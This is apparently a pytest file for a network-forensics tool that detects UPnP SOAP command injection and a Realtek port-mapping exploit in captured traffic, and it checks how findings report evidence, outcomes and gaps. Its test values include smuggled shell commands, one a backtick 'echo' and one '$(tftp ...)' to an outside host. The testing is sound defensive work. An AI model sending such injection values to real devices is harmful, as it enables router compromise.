"""Claims made of requests: what was asked, answered and missing, and where one sees it."""

from __future__ import annotations

from typing import NamedTuple

import pytest

from tests.forensics.judging import Timed, http, probe
from tests.forensics.rules.traffic import (
    ATTACKER,
    CLIENT,
    OUTSIDE,
    SERVER,
    answer,
    of_rule,
    refusal,
    soap,
)
from upnpscapy.forensics.rules.exploits import realtek
from upnpscapy.forensics.rules.soap_injection import injection
from upnpscapy.forensics.rules.windows import densest

INERT = "`echo upnpscapy-test`"
ADD = soap("AddPortMapping", [("NewInternalClient", INERT)])
PADDED = soap("AddPortMapping", [("NewInternalClient", INERT), ("NewComment", "A" * 3000)])
DONE = answer("AddPortMapping")


def test_evidence_names_ends_times_and_the_value() -> None:
    (found,) = of_rule(http(ADD, DONE), realtek)
    asked, answered = found.evidence
    assert (asked.source, asked.destination) == (CLIENT, SERVER)
    assert (answered.source, answered.destination) == (SERVER, CLIENT)
    assert (asked.frames, answered.frames) == ((4,), (6,))
    assert asked.value == INERT
    assert answered.value == "accepted (status 200)"
    assert asked.time_ns is not None
    assert answered.time_ns is not None
    assert asked.time_ns < answered.time_ns


ANSWERS: list[tuple[bytes | None, str, str]] = [
    (DONE, "accepted", "was accepted (status 200)"),
    (refusal(718, "x"), "attempted", "refused with error 718 (ConflictInMappingEntry)"),
    (None, "attempted", "was not seen to be answered"),
    (
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello",
        "attempted",
        "answered with status 200, but without a result",
    ),
    (
        b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
        "attempted",
        "refused with status 401",
    ),
]


@pytest.mark.parametrize(("response", "outcome", "words"), ANSWERS)
def test_answer_decides_the_outcome(response: bytes | None, outcome: str, words: str) -> None:
    (found,) = of_rule(http(ADD, response), realtek)
    assert found.outcome == outcome
    assert words in found.note


def without(frames: list[Timed], *numbers: int) -> list[Timed]:
    return [frame for number, frame in enumerate(frames, 1) if number not in numbers]


def test_request_of_several_segments_is_evidence_with_all_of_them() -> None:
    (found,) = of_rule(http(PADDED, DONE), realtek)
    assert found.evidence[0].frames == (4, 5, 6)
    assert found.missing == []


def test_gap_in_the_request_is_told() -> None:
    (found,) = of_rule(without(http(PADDED, DONE), 5), realtek)
    assert [words for words in found.missing if "bytes of the request" in words]


def test_lost_response_is_told_and_nothing_accepted() -> None:
    (found,) = of_rule(without(http(ADD, DONE), 6), realtek)
    assert found.outcome == "attempted"
    assert found.missing


def test_two_clients_are_two_findings() -> None:
    pieces = [http(ADD, DONE), http(ADD, DONE, client=ATTACKER, at=1)]
    assert len(of_rule(pieces, realtek)) == 2


def test_repeated_requests_are_counted_by_how_they_were_answered() -> None:
    pieces = [
        http(ADD, DONE if number < 3 else refusal(606), at=number, sport=40000 + number)
        for number in range(20)
    ]
    (found,) = of_rule(pieces, realtek)
    assert "refused with error 606 (Action not authorized) (17 of 20)" in found.note
    assert "accepted (status 200) (3 of 20)" in found.note
    assert found.outcome == "accepted"


def test_request_with_the_worst_outcome_is_evidence_however_late() -> None:
    pieces = [
        http(ADD, DONE if number == 30 else refusal(606), at=number, sport=40000 + number)
        for number in range(31)
    ]
    (found,) = of_rule(pieces, realtek)
    assert found.outcome == "accepted"
    assert "accepted (status 200)" in [one.value for one in found.evidence]


def test_effects_of_a_command_are_told_besides_its_answer() -> None:
    request = soap("SetX", [("Y", f"$(tftp {OUTSIDE})")])
    (found,) = of_rule([http(request, DONE), probe(SERVER, OUTSIDE, 69, at=1)], injection)
    assert found.outcome == "effect"
    assert f"a connection of the device to {OUTSIDE} was seen" in found.note


class At(NamedTuple):
    seconds: float | None
    kind: str = ""


def window(*items: At, kinds: bool = False) -> list[At]:
    def time_of(item: At) -> int | None:
        return None if item.seconds is None else int(item.seconds * 1e9)

    if kinds:
        return densest(items, 10, time_of, lambda item: item.kind)
    return densest(items, 10, time_of)


def test_densest_window_is_as_long_as_said_and_in_order_of_time() -> None:
    found = window(At(30), At(1), At(None), At(11), At(10), At(12), At(-1e6))
    assert [item.seconds for item in found] == [1, 10, 11]


def test_densest_window_counts_kinds() -> None:
    same = [At(second, "a") for second in range(9)]
    found = window(*same, At(20, "b"), At(21, "c"), kinds=True)
    assert [item.kind for item in found] == ["b", "c"]
    assert window() == []
